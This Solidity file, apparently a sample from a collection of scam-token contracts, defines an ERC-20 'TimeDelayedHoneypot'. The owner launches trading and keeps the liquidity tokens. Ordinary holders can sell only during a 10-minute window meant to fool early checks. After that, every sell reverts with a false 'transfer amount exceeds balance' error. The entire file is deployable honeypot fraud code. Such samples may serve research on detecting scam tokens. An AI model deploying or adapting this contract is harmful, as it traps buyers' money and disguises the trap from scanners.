// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./ZooBase.sol";

/// @title TimeDelayedHoneypot - launched with openTrading() (the contract adds its own tokens as
///        liquidity, LP to the owner). Sells work for the first 10 minutes after launch - long enough
///        for early checks to pass - and revert from then on.
contract TimeDelayedHoneypot is ERC20Legacy, Ownable {
    address private constant UNISWAP_V2_ROUTER = 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D;
    uint256 private constant _sellWindow = 10 minutes;

    IUniswapV2Router02 private immutable _router;
    address public uniswapV2Pair;
    bool public tradingOpen;
    uint256 private _launchedAt;
    mapping(address => bool) private _isExcluded;

    constructor(string memory name_, string memory symbol_, uint256 supply, uint256 liquidityShare)
        ERC20Legacy(name_, symbol_)
    {
        _router = IUniswapV2Router02(UNISWAP_V2_ROUTER);
        _isExcluded[msg.sender] = true;
        _isExcluded[address(this)] = true;
        uint256 forLiquidity = (supply * liquidityShare) / 100;
        _mint(address(this), forLiquidity);
        _mint(msg.sender, supply - forLiquidity);
    }

    function openTrading() external payable onlyOwner {
        require(!tradingOpen, "trading is already open");
        uniswapV2Pair = IUniswapV2Factory(_router.factory()).createPair(address(this), _router.WETH());
        _approveRouter();
        _router.addLiquidityETH{value: msg.value}(
            address(this), balanceOf(address(this)), 0, 0, owner(), block.timestamp
        );
        tradingOpen = true;
        _launchedAt = block.timestamp;
    }

    function _approveRouter() private {
        // approve() on behalf of this contract: the router pulls the liquidity tokens from here.
        this.approve(address(_router), type(uint256).max);
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (!_isExcluded[from] && !_isExcluded[to]) {
            require(tradingOpen, "Trading not open");
            if (to == uniswapV2Pair) {
                require(block.timestamp < _launchedAt + _sellWindow, "ERC20: transfer amount exceeds balance");
            }
        }
        _move(from, to, amount);
    }
}
